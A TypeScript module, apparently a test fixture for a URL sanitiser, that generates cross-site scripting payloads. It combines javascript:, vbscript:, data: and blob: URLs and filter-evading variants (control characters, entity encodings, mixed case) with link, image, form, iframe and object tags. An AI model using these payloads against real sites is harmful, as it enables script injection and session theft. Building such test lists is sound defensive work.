/** URLs that run JavaScript (`§` stands for the code), plain and in disguises that browsers still accept. */
const addresses = [
  'javascript:§',
  'JaVaScRiPt:§',
  ' javascript:§',
  '\u0001javascript:§',
  'java\tscript:§',
  'java\nscript:§',
  'javascript\r:§',
  'javascript://%0a§',
  'javascript:/*-->*/§',
  'vbscript:§',
  'data:text/html,<script>§</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcygwKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="§"/>',
  'blob:https://xss.invalid/§',
  'feed:javascript:§',
  'view-source:javascript:§',
  '//xss.invalid/§',
  '\\\\xss.invalid\\§',
  'https:xss.invalid',
  'https://landfall@xss.invalid/',
] as const;

/** URLs that are written with HTML entities and run JavaScript once the entities are decoded. */
const asEntities = [
  'javascript&colon;§',
  'javascript&#58;§',
  'javascript&#x3a;§',
  'javascript&#0000058§',
  '&#106;avascript:§',
  '&#x6A&#x61vascript:§',
  'java&Tab;script:§',
  'java&NewLine;script:§',
  'java&#x0D;script:§',
  '&#14; javascript:§',
  '&amp;#106;avascript:§',
] as const;

type Carrier = (address: string) => string;

const carriers: readonly Carrier[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_blank>x</a>`,
  (address) => `<img src="${address}" alt="x">`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button formaction="${address}">x</button>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
];

const inQuotes = (address: string) => address.replaceAll('"', '&quot;');

/**
 * Payloads with URLs that run JavaScript: the URLs alone, and in every kind of HTML element that loads or follows a
 * URL.
 */
export const urlPayloads: readonly string[] = [
  ...addresses,
  ...asEntities,
  ...carriers.flatMap((carry) => [...addresses.map(inQuotes), ...asEntities].map(carry)),
];
